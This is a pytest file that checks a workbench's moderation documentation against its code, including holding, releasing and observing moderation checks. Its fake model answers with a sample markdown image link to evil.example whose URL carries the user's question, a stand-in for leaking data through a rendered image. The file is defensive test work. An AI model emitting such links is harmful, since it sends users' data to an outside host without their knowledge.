"""docs/moderation.md, followed to the letter: its checks are stated, its code and its commands run."""

import json
import re
import sys

import pytest
from documented_pages import blocks_of, copy_to, page_of, run
from endpoint import endpoint, speaking

import workbench as wb
from benchmarks.moderation import table
from workbench import config, registry
from workbench.diagnostics.check import check_all
from workbench.errors import ConfigError
from workbench.experiments.gate_spec import GateSpec
from workbench.experiments.scorer_spec import ScorerSet
from workbench.moderation.hooks import KINDS
from workbench.prompts.prompt import parse
from workbench.testing.fakes import FakeModel
from workbench.types import Hit

PAGE = page_of("moderation.md")
CARD = """\
name: remote
provider: openai
model: remote-1
kind: chat
purpose: Tests.
licence: none
region: here
limits: {context_tokens: 8192, max_output_tokens: 64}
price_per_million: {input_usd: 0, output_usd: 0}
"""
LINK = "Yes. See ![form](https://evil.example/f.png?q=may+I+take+a+taxi+home)"


def blocks(language):
    return blocks_of(PAGE, language)


@pytest.fixture
def repository(tmp_path, monkeypatch):
    """This repository's use case with a model on the loopback, and the checks of the page."""
    monkeypatch.setenv("OPENAI_API_KEY", "none")
    copy_to(tmp_path)
    with endpoint(speaking(FakeModel(lambda _: LINK))) as url:
        card = (CARD + f"base_url: {url}\n").encode()
        registry.save_version(tmp_path, "model", "remote", card, author="t", reason="r", parent=None)
        params = tmp_path / "params.yaml"
        text = params.read_text().replace("    model: smollm2-135m\n", "    model: remote\n", 1)
        params.write_text(text.replace("    concurrency: 2\n", f"    concurrency: 2\n{blocks('yaml')[0]}", 1))
        yield tmp_path


def test_the_page_is_true(repository):
    refused, held, _ = blocks("python")
    observed, listed, *_ = (command for block in blocks("console") for command in block.splitlines())
    first = run(repository, sys.executable, "-c", refused.replace("\nrefused\n", "\nprint(refused)\n"))
    assert first.strip() == "('layoffs', 'in')"
    script = (
        'import workbench as wb\nfrom workbench.errors import ModerationError\nws = wb.connect("answers")\n'
    )
    script += held.replace("ws.released(held)", "print(held, ws.released(held))")
    name, nothing = run(repository, sys.executable, "-c", script).split()
    assert re.fullmatch("[0-9a-f]{16}", name) and nothing == "None"
    cli = (sys.executable, "-m", "workbench.cli")
    assert name in run(repository, *cli, *listed.split()[1:])
    release = blocks("console")[1].splitlines()[1].replace("HELD", name)
    assert release == f'workbench moderation release {name} --reason "the link is ours"'
    run(repository, *cli, "moderation", "release", name, "--reason", "the link is ours")
    ws = wb.connect("answers", root=repository)
    assert ws.released(name) == LINK
    record = ws.calls().to_dicts()[-1]
    assert [check["check"] for check in record["checks"]] == ["exfiltration"]
    ws.close()
    assert json.loads(run(repository, *cli, *observed.split()[1:], "--json")) == []


def test_what_observed_checks_would_stop_is_one_table(repository):
    params = repository / "params.yaml"
    params.write_text(params.read_text().replace("      enforce: enforce\n", "      enforce: observe\n"))
    ws = wb.connect("answers", root=repository)
    for question in ("Who is on the list of layoffs?", "May I take a taxi home after the late shift?"):
        assert ws.model().chat(question, max_tokens=8).text == LINK
    ws.close()
    cli = (sys.executable, "-m", "workbench.cli", "calls", "would-refuse")
    rows = {row["rule"]: row for row in json.loads(run(repository, *cli, "--json"))}
    assert set(rows) == {"moderation:layoffs", "moderation:exfiltration"}
    row = rows["moderation:exfiltration"]
    assert row["use_case"] == "answers" and 0 < row["share"] <= 1 and row["calls"] <= row["of"]
    assert row["last_trace"] in run(repository, *cli[:-1], "--trace", row["last_trace"])
    assert "moderation:layoffs" in run(repository, *cli)


def test_check_reads_the_checks(repository):
    assert not [
        found for found in check_all(repository).findings if "moderation" in found.what and found.problem
    ]
    params = repository / "params.yaml"
    params.write_text(
        params.read_text().replace("words: [layoffs, salary band]", "file: pipelines/moderation/none.txt")
    )
    (wrong,) = [found for found in check_all(repository).findings if "moderation" in found.what]
    assert "none.txt" in wrong.problem


def test_the_phase_mlvp_demands_enforce(repository):
    params = repository / "params.yaml"
    text = params.read_text().replace("    phase: mvp ", "    phase: mlvp ", 1)
    params.write_text(text.replace("      enforce: enforce\n", "      enforce: observe\n"))
    with pytest.raises(ConfigError, match="mlvp"):
        config.load_params(repository)


def test_the_template_and_the_scorers_of_the_page_are_what_they_say(tmp_path):
    (template,), (shown,) = blocks("jinja"), blocks("text")
    inputs = "inputs:\n  question: {type: string, data_class: internal}\n"
    inputs += "  passages: {type: passages, data_class: internal}\n"
    prompt = parse(f"---\nname: a\nowner: o\nreason: r\n{inputs}---\nuser:\n{template}", where="a")
    hit = Hit(
        id="1", text=shown.splitlines()[1], source="travel", title="", version=1, score=1.0, tenant="acme",
        as_of="", stale=False, digest="", memory="m",
    )  # fmt: skip
    rendered = prompt.render(question="?", passages=[hit]).messages[0].content
    assert re.sub("[0-9a-f]{16}", "#", rendered).startswith(re.sub("[0-9a-f]{16}", "#", shown))
    stated = config_of(blocks("yaml")[1])
    assert len(ScorerSet.parse(stated["scorers"], root=tmp_path, where="s", find=lambda _: ()).scorers) == 4
    GateSpec.parse(stated["gates"]["mvp"] | {"cases": {"min": 1}, "confidence": 0.9}, where="g")


def config_of(block):
    from workbench import files

    return files.parse_yaml(block, where="page")


def test_the_table_of_checks_is_complete():
    named = re.findall(r"^\| `([a-z_]+)` \| (in|out|both) \|", PAGE, flags=re.MULTILINE)
    assert {name for name, _ in named} == set(KINDS)
    for name, direction in named:
        assert (direction == "out") == (KINDS[name].directions == ("out",)), name


def test_the_measured_table_is_that_of_the_code():
    assert "\n".join(table()) in page_of("benchmarks.md")
